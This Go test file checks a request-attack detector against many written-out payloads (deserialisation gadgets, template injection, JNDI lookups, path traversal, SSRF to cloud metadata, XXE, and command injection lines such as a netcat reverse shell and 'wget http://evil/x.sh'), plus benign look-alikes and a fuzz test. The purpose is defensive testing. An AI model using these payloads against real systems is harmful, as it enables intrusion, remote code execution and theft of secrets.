package detect

import (
	"encoding/base64"
	"strings"
	"testing"

	"casemate"
	"casemate/shield/expand"
)

// judged gives the rules found in a value of the body, decoded, and their sum.
func judged(t testing.TB, in, name, value string) (rules string, sum int) {
	t.Helper()
	var all []Finding
	look := func(p *expand.Piece) error {
		all = Detect(all, p)
		return nil
	}
	if err := expand.New(expand.Bounds{}).Expand(casemate.Field{In: in, Name: name, Value: []byte(value)}, "", look); err != nil {
		t.Fatal(err)
	}
	if err := expand.New(expand.Bounds{}).ExpandName(in, name, look); err != nil {
		t.Fatal(err)
	}
	for _, f := range all {
		rules += f.Rule + " "
		sum += f.Score
	}
	return rules, sum
}

func unbase(s string) string {
	b, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func TestAttacksAreFound(t *testing.T) {
	for _, tc := range []struct{ rule, in, name, value string }{
		{"pickle", "body", "", "cos\nsystem\n(S'id'\ntR."},
		{"pickle", "body", "", "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."},
		{"pickle", "body", "", "\x80\x03cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."},
		{"pickle", "body", "", "(S'id'\nios\nsystem\n."},
		{"pickle", "body", "", base64.StdEncoding.EncodeToString([]byte("\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."))},
		{"java-serialised", "body", "s", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvckk"},
		{"dotnet-serialised", "body", "s", "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I"},
		{"ruby-marshal", "body", "s", "BAhvOiZBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZA=="},
		{"php-serialised", "body", "s", `O:8:"stdClass":1:{s:1:"a";i:1;}`},
		{"php-serialised", "body", "s", `a:1:{i:0;O:14:"Monolog\Logger":0:{}}`},
		{"node-serialize", "body", "", `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`},
		{"yaml-tag", "body", "", "!!python/object/apply:os.system [\"id\"]"},
		{"yaml-tag", "body", "", "a: !ruby/object:Gem::Installer\n  i: x\n"},
		{"yaml-tag", "body", "", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil\"]]]]"},
		{"typed-json", "body", "", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x"}`},
		{"typed-json", "body", "", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`},
		{"nosql-operator", "body", "", `{"user":"admin","password":{"$ne":null}}`},
		{"prototype-path", "body", "key", "constructor.prototype.shell"},
		{"log-injection", "body", "user", "ann\n2026-05-01;12:00:00;INFO;login of admin"},
		{"sql-comment", "body", "user", "admin'#"},
		{"sql-comment", "query", "user", "ann@example.com') -- -"},
		{"sql-comment", "body", "user", "bob\"--"},
		{"nosql-operator", "body", "", `{"$where":"sleep(5000)"}`},
		{"nosql-operator", "query", "password[$ne]", "1"},
		{"nosql-operator", "body", "", "user=admin&password[$gt]="},
		{"nosql-query", "query", "filter", `{$where: "this.a == this.b"}`},
		{"nosql-query", "body", "q", `', $where: '1 == 1`},
		{"prototype", "body", "", `{"__proto__":{"admin":true}}`},
		{"prototype", "body", "", `{"a":{"constructor":{"prototype":{"admin":true}}}}`},
		{"prototype", "query", "__proto__[admin]", "1"},
		{"prototype", "query", "constructor[prototype][admin]", "1"},
		{"prototype-path", "body", "", `[{"op":"add","path":"/__proto__/admin","value":true}]`},
		{"template", "body", "n", "{{7*7}}"}, {"template", "body", "n", "${7*7}"}, {"template", "body", "n", "<%= 7*7 %>"}, {"template", "body", "n", "#{7*7}"}, {"template", "body", "n", "{{7*'7'}}"},
		{"template", "body", "n", "{{''.__class__.__mro__[1].__subclasses__()}}"}, {"template", "body", "n", "{% import os %}{{os.system('id')}}"}, {"template", "body", "n", "Hi ${T(java.lang.Runtime).getRuntime().exec('id')}"},
		{"template", "body", "n", "{{constructor.constructor('alert(1)')()}}"}, {"template", "body", "n", "#{`id`}"}, {"template", "body", "n", `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`}, {"template", "body", "n", "@(1+2*3)"},
		{"template", "body", "n", "{{_self.env.registerUndefinedFilterCallback('exec')}}"}, {"template", "body", "n", "{{['id']|filter('system')}}"}, {"template", "body", "n", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id'))}"},
		{"jndi", "header", "User-Agent", "${jndi:ldap://evil/a}"}, {"jndi", "header", "X-Api", "${${lower:j}ndi:${lower:l}dap://evil/a}"}, {"jndi", "body", "", "${${::-j}${::-n}di:rmi://evil}"}, {"jndi", "body", "", "${${env:NaN:-j}ndi:ldap://e}"},
		{"traversal", "query", "file", "../../etc/passwd"}, {"traversal", "body", "file", "..\\..\\windows\\win.ini"}, {"traversal", "body", "f", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"}, {"traversal", "query", "f", "..%252f..%252fetc%252fpasswd"},
		{"traversal", "key", "", "uploads/../../secret"}, {"traversal", "query", "f", "....//....//etc/passwd"}, {"traversal", "query", "f", "..%c0%af..%c0%afetc/passwd"}, {"traversal", "query", "f", "/static/..;/admin"}, {"traversal", "query", "f", "x/../../y"},
		{"sensitive-file", "query", "f", "/etc/passwd"}, {"sensitive-file", "query", "f", "/proc/self/environ"}, {"stream-wrapper", "query", "f", "php://filter/convert.base64-encode/resource=index"}, {"stream-wrapper", "body", "url", "file:///etc/passwd"}, {"stream-wrapper", "body", "url", "gopher://127.0.0.1:6379/_INFO"},
		{"ssrf-metadata", "body", "url", "http://169.254.169.254/latest/meta-data/iam"}, {"ssrf-metadata", "body", "url", "http://metadata.google.internal/computeMetadata/v1/"}, {"ssrf-metadata", "body", "url", "http://[fd00:ec2::254]/latest"}, {"ssrf-metadata", "body", "url", "http://2852039166/latest"},
		{"ssrf-metadata", "body", "url", "http://0xA9FEA9FE/"}, {"ssrf-metadata", "body", "url", "http://0251.0376.0251.0376/"}, {"ssrf-metadata", "body", "url", "http://[::ffff:169.254.169.254]/"}, {"ssrf-metadata", "body", "url", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/"},
		{"ssrf-metadata", "body", "url", "http://169。254。169。254/"}, {"ssrf-metadata", "body", "url", "169.254.169.254/latest/meta-data/"}, {"ssrf-metadata", "body", "url", "http://evil.com@169.254.169.254/"}, {"ssrf-metadata", "body", "html", `<iframe src="http://169.254.169.254/latest/meta-data/">`},
		{"ssrf-disguised", "body", "url", "http://127.1/"}, {"ssrf-disguised", "body", "url", "http://0177.0.0.1/"}, {"ssrf-disguised", "body", "url", "http://2130706433/"}, {"ssrf-disguised", "body", "url", "http://127.0.0.1.nip.io/"}, {"ssrf-disguised", "body", "url", "http://7f000001.nip.io/"},
		{"ssrf-disguised", "body", "url", "http://localtest.me/"}, {"ssrf-disguised", "body", "url", "http://[::ffff:10.0.0.1]/"}, {"ssrf-private", "body", "url", "http://localhost:9200/_search"}, {"ssrf-private", "body", "url", "http://192.168.0.1/admin"},
		{"ssrf-private", "body", "url", "http://10.0.0.5:8080/"}, {"ssrf-private", "body", "url", "http://kubernetes.default.svc/api"}, {"ssrf-private", "body", "url", "http:/\\127.0.0.1/"}, {"ssrf-private", "body", "url", "http://0.0.0.0:2375/"}, {"ssrf-private", "body", "url", "http://[::1]/"},
		{"command", "query", "host", "8.8.8.8; cat /etc/passwd"}, {"command", "query", "host", "8.8.8.8|id"}, {"command", "body", "n", "x && whoami"}, {"command", "body", "n", "$(id)"}, {"command", "body", "n", "`id`"}, {"command", "body", "n", "a.jpg;sleep 5"},
		{"command", "body", "n", "x\nwget http://evil/x.sh"}, {"command", "body", "n", "x; c'a't /etc/passwd"}, {"command", "body", "n", "| nc -e /bin/sh 10.0.0.1 4444"}, {"command", "body", "n", "& dir C:\\"}, {"command", "body", "n", "; /???/c?t /etc/passwd"}, {"command", "key", "", "report$(curl evil.sh).pdf"},
		{"command", "body", "n", "x || ping -c 10 127.0.0.1"}, {"command-ifs", "body", "n", ";cat${IFS}/etc/passwd"}, {"shellshock", "header", "User-Agent", "() { :; }; /bin/bash -c id"}, {"option", "body", "host", "-oProxyCommand=touch /tmp/x"},
		{"header-injection", "query", "lang", "en\r\nSet-Cookie: a=b"}, {"header-injection", "body", "email", "a@b.c\nBcc: all@x.y"}, {"header-injection", "body", "url", "/x\r\nLocation: http://evil"}, {"log-injection", "query", "user", "bob\n2026-01-01 12:00:00 INFO login ok for admin"},
		{"line-break", "key", "", "a\nb"},
		{"xxe", "body", "", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`}, {"xxe", "body", "x", `<!DOCTYPE r SYSTEM "http://evil/x.dtd"><r/>`}, {"xinclude", "body", "x", `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>`},
		{"ldap-filter", "body", "u", "*)(uid=*))(|(uid=*"}, {"ldap-filter", "query", "u", "admin)(&)"}, {"ldap-filter", "query", "u", "*)(objectClass=*"}, {"xpath", "body", "u", "' or count(//*)=1 or 'a'='b"}, {"xpath", "body", "u", "x'] | //user/*[contains(*,'"},
		{"server-include", "body", "n", `<!--#exec cmd="ls" -->`}, {"code", "body", "n", "__import__('os').system('id')"}, {"code", "body", "n", "';system('id');//"}, {"nul", "query", "f", "a.php\x00.png"},
	} {
		if rules, sum := judged(t, tc.in, tc.name, tc.value); sum < Sure || !strings.Contains(rules, "casemate/"+tc.rule+" ") {
			t.Errorf("%q in %s %s: %q, %d; want %s", tc.value, tc.in, tc.name, rules, sum, tc.rule)
		}
	}
}

func TestLookAlikesPass(t *testing.T) {
	for _, tc := range [][3]string{
		{"body", "name", "O'Neil"}, {"body", "t", "Please select a table from the list and drop me a line; thanks & regards"}, {"body", "t", "Milk; eggs; cat food | dog food && bones"}, {"body", "t", "use `ls -la` to list, or `id` alone"},
		{"body", "t", "Hi {{first_name}}, your order {{order.id}} is ready. {{#each items}}{{name}}{{/each}}"}, {"body", "t", "price ${amount} for ${this.name}; run ${{ secrets.TOKEN }}"}, {"body", "t", "<%= user.name %>"}, {"body", "t", "Issue #{number}"}, {"body", "t", "{{ price | currency }}"},
		{"body", "src", "../images/logo.png"}, {"body", "t", "import x from '../../lib/a'\nimport y from '../b'"}, {"body", "t", "see ../../README for more on this and that and these"}, {"body", "t", "and so on.../or not"}, {"body", "path", "C:\\Users\\Bob\\file.txt"}, {"body", "p", "/usr/local/bin/tool"},
		{"body", "redirect_uri", "http://localhost:8080/callback"}, {"body", "url", "https://example.com/a?b=http://x.y"}, {"body", "t", "the metadata service at http://169.254.169.254/ is blocked here"}, {"body", "ip", "10.0.0.1"}, {"body", "addr", "192.168.1.4:8080"}, {"body", "url", "https://hooks.example.com/1.2.3.4/x"},
		{"header", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"}, {"header", "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"}, {"header", "Origin", "http://localhost:3000"},
		{"header", "User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}, {"header", "If-None-Match", `W/"33a64df5"`}, {"header", "User-Agent", "aws-sdk-go-v2/1.30 os/linux lang/go#1.26 md/GOARCH#amd64"},
		{"body", "", `{"@type":"Person","@context":"https://schema.org","$ref":"#/$defs/a","$schema":"x","$oid":"65a","$set":{"plan":"pro"}}`}, {"body", "t", "db.users.find({age: {$gt: 5}}) finds the users that are older"}, {"body", "t", "Object.prototype.toString.call(x)"}, {"body", "t", "what does __proto__ mean?"},
		{"body", "t", "cd build && make && sudo make install"}, {"body", "t", "#!/bin/sh\nset -e\ncat /etc/hostname | wc -l\n"}, {"body", "t", "npm install; npm run build"}, {"body", "t", "$(document).ready(function(){ $('#id').hide(); })"}, {"body", "t", "AT&T; R&D; Q&A; Tom & Jerry"},
		{"body", "t", "Dear all,\r\nplease find attached.\r\nSubject: as discussed\r\n"}, {"body", "t", "GET / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 3\r\n\r\nabc"}, {"body", "t", "2026-01-01 10:00:00 INFO start\n2026-01-01 10:00:01 INFO stop\n"}, {"body", "t", "line one\nline two"},
		{"body", "html", `<!DOCTYPE html><html><body><p>Hello &amp; welcome</p><a href="https://x.y">x</a></body></html>`}, {"body", "svg", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>`}, {"body", "t", "f(x)(y) = (a)(b=2)"}, {"body", "xpath", "//div[@id='x']/a[contains(text(),'Foo')]"},
		{"body", "t", "it's 5 o'clock or later"}, {"body", "", `{"query":"query { user(id: 1) { name posts(first: 10) { id } } }","variables":{"a":1}}`}, {"query", "q", "rock & roll; best of"}, {"query", "redirect", "/home?tab=1"}, {"body", "t", "5'--"}, {"body", "csv", "date;amount;text\n2026-05-01;-12,50;Tom\n"}, {"body", "csv", "when,what\n2026-05-01,lunch with Ann and Bob"}, {"body", "t", `12" #`}, {"body", "t", "rock 'n'--"}, {"body", "t", "he said don'--"}, {"header", "If-Match", `W/"#"`}, {"body", "t", "'C'#"}, {"body", "args", "--config=/etc/app/config.yaml"}, {"body", "t", "日本語；改行。＜テスト＞"}, {"body", "t", "🎉 done ✅"},
		{"body", "t", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefghijklmnop"}, {"body", "t", "550e8400-e29b-41d4-a716-446655440000"}, {"body", "t", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}, {"body", "t", "a:1:{s:1:\"a\";i:1;}"},
		{"body", "t", unbase("gASVCwAAAAAAAABdlChLAUsCSwNlLg==")}, {"body", "version", "{{2024-01-01}}"}, {"body", "QueueUrl", "http://169.254.100.3/000000000000/q"}, {"body", "t", "Use !!python/object tags only if you trust the file"}, {"body", "expr", "a+b*c"}, {"body", "t", "const s = `${process.env.HOME}/x`;"},
		{"key", "", "photos/2026/01/my photo (1).jpg"}, {"topic", "", "devices/+/state/#"}, {"body", "t", "50% off; more at https://shop.example/?a=1&b=2"}, {"body", "t", "- [x] done\n- [ ] not done; echo chamber"}, {"body", "t", "I like PHP; Python; and Ruby"}, {"body", "t", "skills: C; Go; Perl; bash"},
	} {
		if rules, sum := judged(t, tc[0], tc[1], tc[2]); sum >= Sure {
			t.Errorf("%s %s %q: %s", tc[0], tc[1], tc[2], rules)
		}
	}
}

func FuzzDetect(f *testing.F) {
	for _, s := range []string{"cos\nsystem\n(S'id'\ntR.", "{{7*7}}", "../../etc/passwd", "http://0x7f.1/", "x; id", "a\r\nSet-Cookie: b", "<!DOCTYPE a [", "*)(uid=*", `O:1:"a":0:{}`, "${jndi:x}", "\x80\x04\x8d"} {
		f.Add([]byte(s), uint8(0), "body")
	}
	f.Fuzz(func(t *testing.T, v []byte, kind uint8, in string) {
		p := &expand.Piece{In: in, Kind: expand.Kind(kind % 4), Value: v, Has: expand.Traits(v)}
		one, two := Detect(nil, p), Detect(nil, p)
		if len(one) != len(two) {
			t.Fatal("not deterministic")
		}
	})
}
